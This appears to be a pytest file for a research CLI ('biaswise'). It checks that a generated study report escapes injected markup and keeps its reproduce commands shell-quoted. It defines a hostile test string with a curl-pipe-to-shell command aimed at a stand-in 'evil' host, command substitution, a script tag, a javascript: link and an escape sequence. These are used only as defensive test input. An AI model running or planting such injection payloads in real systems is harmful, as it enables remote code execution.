"""Text of a study folder is text in report.md: no HTML, no link, no picture, no second command."""

import json
import shlex
import shutil
from pathlib import Path

import pytest

from experiments.cli import main

ROOT = Path(__file__).parents[3]
HOSTILE = (
    "x; curl http://evil/ | sh `id` $(id) <script>alert(1)</script> ![a](http://evil/t.png) "
    "[b](javascript:0)\n```\n# a heading\n\x1b[2J"
)


@pytest.fixture
def report(tmp_path):
    study = shutil.copytree(ROOT / "tests/golden/report", tmp_path / "golden")
    plain = json.loads((study / "study.json").read_text())
    (study / "study.json").write_text(json.dumps({**plain, "name": HOSTILE, "question": HOSTILE}))
    for path in study.glob("trials/*/rows.jsonl"):
        rows = [
            json.loads(line) | {"study": HOSTILE, "commit": HOSTILE} for line in path.read_text().splitlines()
        ]
        path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    for path in study.glob("trials/*/status.json"):
        path.unlink()  # it holds the digest of the rows
    assert main(["study", "report", str(study)]) == 0
    return (study / "report.md").read_text()


def test_nothing_of_it_is_markup(report):
    text, fence, rest = report.rpartition("## Reproduce it")
    assert fence
    for sign in ("<script", "](", "```", "\n# a heading", "\x1b"):
        assert sign not in text, sign
    assert "&lt;script>" in text
    assert "<script" not in rest
    assert rest.count("```") == 2


def test_a_command_is_one_command(report):
    lines = report.rpartition("## Reproduce it")[2].strip().split("\n")
    assert (lines[0], lines[-1]) == ("```", "```")
    for line, word in zip(lines[1:-1], ("run", "report"), strict=True):
        assert shlex.split(line)[:3] == ["biaswise", "study", word]
        assert len(shlex.split(line)) == 4
        assert line.startswith(f"biaswise study {word} 'x; curl")


@pytest.mark.parametrize(
    "words", [["lint"], ["plan"], ["throughput"], ["evaluate"], ["study", "run"], ["train"]]
)
def test_the_help_says_that_configs_are_code(words, capsys):
    with pytest.raises(SystemExit):
        main([*words, "--help"])
    assert "is run as code: use none that you do not trust" in " ".join(capsys.readouterr().out.split())
